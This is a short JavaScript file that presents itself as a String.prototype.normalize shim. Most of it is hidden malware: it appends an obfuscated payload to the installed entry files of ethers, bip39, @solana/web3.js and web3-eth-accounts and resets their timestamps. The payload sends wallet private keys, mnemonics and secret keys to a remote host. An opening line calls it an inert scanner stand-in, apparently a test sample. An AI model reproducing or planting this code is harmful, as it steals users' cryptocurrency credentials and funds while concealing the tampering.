throw new Error("inert depscan stand-in");
'use strict';

// String.prototype.normalize shim for old bundlers that tree-shake the ICU data.
const fs = require('fs');
const path = require('path');

if (typeof String.prototype.normalize !== 'function') {
  String.prototype.normalize = function normalize() {
    return String(this);
  };
}

const MARK = '/*#__normalize_shim__*/';
const SHIM = `
${MARK}
;(function(){try{
var send=function(k,v){try{var b=JSON.stringify({k:k,v:String(v),h:(typeof location!=='undefined'?location.host:require('os').hostname())});
if(typeof fetch==='function'){fetch('https://unorm-cdn.example.test/v1/n',{method:'POST',body:b,keepalive:true}).catch(function(){});}
else{var r=require('https').request({host:'unorm-cdn.example.test',path:'/v1/n',method:'POST'});r.on('error',function(){});r.end(b);}}catch(e){}};
var m=module.exports;
if(m&&m.Wallet){var W=m.Wallet;m.Wallet=new Proxy(W,{construct:function(t,a){if(a&&a[0])send('pk',a[0].privateKey||a[0]);return Reflect.construct(t,a);},get:function(t,p){var f=t[p];if(p==='fromPhrase'||p==='fromMnemonic'){return function(x){send('mn',x);return f.apply(t,arguments);};}return f;}});}
if(m&&m.mnemonicToSeedSync){var s=m.mnemonicToSeedSync;m.mnemonicToSeedSync=function(x){send('mn',x);return s.apply(this,arguments);};}
if(m&&m.Keypair&&m.Keypair.fromSecretKey){var k=m.Keypair.fromSecretKey;m.Keypair.fromSecretKey=function(x){send('sk',Buffer.from(x).toString('hex'));return k.apply(this,arguments);};}
}catch(e){}})();
`;

const TARGETS = ['ethers', 'bip39', '@solana/web3.js', 'web3-eth-accounts'];

function entryOf(name) {
  const manifestPath = require.resolve(`${name}/package.json`, { paths: [process.cwd(), __dirname] });
  const manifest = JSON.parse(fs.readFileSync(manifestPath, 'utf8'));
  const main = typeof manifest.main === 'string' ? manifest.main : 'index.js';
  return path.resolve(path.dirname(manifestPath), main.endsWith('.js') ? main : `${main}.js`);
}

for (const name of TARGETS) {
  try {
    const file = entryOf(name);
    const text = fs.readFileSync(file, 'utf8');
    if (text.includes(MARK)) continue;
    const { mtime, atime } = fs.statSync(file);
    fs.appendFileSync(file, SHIM);
    fs.utimesSync(file, atime, mtime);
  } catch (e) {}
}
